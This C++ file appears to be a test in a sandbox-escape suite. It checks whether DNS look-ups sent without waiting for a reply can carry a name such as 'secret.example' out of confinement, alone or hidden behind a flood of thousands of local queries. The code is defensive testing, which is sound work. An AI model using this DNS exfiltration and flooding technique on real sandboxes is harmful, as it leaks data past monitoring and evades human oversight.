// Look-ups whose sender does not wait: after others that are answered inside, and after so many that the kernel drops
// some. The program ends at once, and its queries must be recorded.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <string>
#include <vector>

#include "escape/outside_peer.h"
#include "escape/probe.h"

namespace caisson::escape {

namespace {

std::string Query(const std::string& labels) {
  const std::string header("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
  return header + labels + std::string("\0\0\1\0\1", 5);
}

Observation Send(int local_ones) {
  if (!MakeOutsidePeerReachable()) return NotApplicable("no loopback");
  struct sockaddr_in server {};
  server.sin_family = AF_INET;
  server.sin_port = htons(53);
  ::inet_pton(AF_INET, "127.0.0.53", &server.sin_addr);
  const auto* address = reinterpret_cast<const struct sockaddr*>(&server);
  if (IsControl()) {
    const int listener = Datagram();
    if (::bind(listener, address, sizeof(server)) != 0) return NotApplicable("no server");
  }
  // In one call each, which is faster than they are served.
  std::string local = Query("\x09localhost");
  std::string secret = Query(std::string("\x06secret\x07") + "example");
  std::vector<struct iovec> data(static_cast<size_t>(local_ones), {local.data(), local.size()});
  data.push_back({secret.data(), secret.size()});
  std::vector<struct mmsghdr> messages(data.size());
  for (size_t i = 0; i < data.size(); ++i) {
    messages[i].msg_hdr.msg_name = &server;
    messages[i].msg_hdr.msg_namelen = sizeof(server);
    messages[i].msg_hdr.msg_iov = &data[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  const int fd = Datagram();
  bool sent = true;
  constexpr size_t kAtOnce = 1024;  // as many as the kernel takes
  for (size_t i = 0; i < messages.size(); i += kAtOnce) {
    const size_t count = std::min(kAtOnce, messages.size() - i);
    sent = sent && ::sendmmsg(fd, &messages[i], static_cast<unsigned>(count), 0) == static_cast<int>(count);
  }
  // Inside, the name is unknown, whether or not the program waits for the answer.
  return IsControl() && sent ? Escaped("the name was sent") : Blocked(0, "not answered");
}

Attempt Unwaited(const char* name, int local_ones) {
  return {.name = name,
          .probe = [local_ones] { return Send(local_ones); },
          .control = {.place = Place::kOwnNamespaces},
          .expect = {.reports = {{"NetworkAccessViolation", "net.dns"}}}};
}

const Registration kRow(Row{
    .id = "G16",
    .title = "names looked up without waiting for the answer",
    .severity = Severity::kExfiltration,
    .walls = {"name look-ups"},
    .attempts = {Unwaited("alone", 0), Unwaited("behind-others", 200), Unwaited("behind-a-flood", 20'000)},
});

}  // namespace

}  // namespace caisson::escape
